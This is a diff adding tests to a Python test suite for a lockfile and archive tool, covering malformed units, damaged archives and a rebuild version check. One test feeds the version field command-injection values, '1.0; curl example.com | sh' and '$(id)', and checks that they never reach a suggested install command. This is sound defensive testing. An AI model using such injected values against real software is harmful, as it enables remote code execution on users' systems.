@@ -19,7 +19,7 @@ from hypothesis import strategies as st
 import eechips
 from eechips.cli import main
 from eechips.commands.run_service import service_of_source
-from eechips.errors import EechipsError, StorageError, UsageError
+from eechips.errors import EechipsError, RunMismatchError, StorageError, UsageError
 from eechips.files.temporary_names import temporary_name
 from eechips.lockfile.lockfile_format import Lockfile, write_lockfile
 from eechips.lockfile.lockfile_records import FORMAT
@@ -122,6 +122,8 @@ UNITS: dict[str, list[dict[str, Any]]] = {
     "order": [UNIT, UNIT],
     "hashes": [{**UNIT, "files": [{**UNIT["files"][0], "hashes": {"size": [1, 1]}}]}],
     "expression": [{**UNIT, "expression": "../x"}],
+    "sources": [{**UNIT, "files": [{**UNIT["files"][0], "sources": 5}]}],
+    "bands": [{**UNIT, "files": [{**UNIT["files"][0], "bands": "RGB"}]}],
     "nothing": [],
 }
 
@@ -176,7 +178,18 @@ def crc(path: Path) -> None:
     path.write_bytes(data)
 
 
-@pytest.mark.parametrize("damage", [cut, bomb, deep, link, text, crc])
+def other_compression(path: Path) -> None:
+    with zipfile.ZipFile(path) as archive:
+        members = {name: archive.read(name) for name in archive.namelist()}
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_LZMA) as archive:
+        for name, data in members.items():
+            archive.writestr(name, data)
+    data = bytearray(path.read_bytes())
+    data[data.find(b"lock.json") + len("lock.json") + 20] ^= 255  # lzma.LZMAError is not among zipfile's errors
+    path.write_bytes(data)
+
+
+@pytest.mark.parametrize("damage", [cut, bomb, deep, link, text, crc, other_compression])
 def test_damaged_archives_are_refused(damage: Callable[[Path], None], tmp_path: Path) -> None:
     path = write(tmp_path / "a.lock")
     damage(path)
@@ -280,6 +293,20 @@ def test_a_recipe_of_others_is_not_executed(
     assert "executes code: read recipe.py in it, then give --trust" in done.stderr
     assert not (tmp_path / "executed").exists()
     assert not (tmp_path / "out").exists()
+
+
+@pytest.mark.parametrize(
+    ("version", "is_advised"), [("0.1.9", True), ("1.0; curl example.com | sh", False), ("$(id)", False), ({}, False)]
+)
+def test_the_version_of_a_lockfile_stands_in_a_command_only_if_it_is_one(
+    version: Any, is_advised: bool, tmp_path: Path
+) -> None:
+    path = write(tmp_path / "a.lock", {"versions": {"eechips": version}})
+    with pytest.raises(RunMismatchError) as caught:
+        eechips.rebuild(path, tmp_path / "out", endpoint="http://127.0.0.1:1", project="p", quiet=True)
+    assert ("pip install eechips==0.1.9" in str(caught.value)) == is_advised
+    assert "curl" not in str(caught.value)
+    assert "$(" not in str(caught.value)
 
 
 def test_a_changed_input_is_refused(tmp_path: Path) -> None:
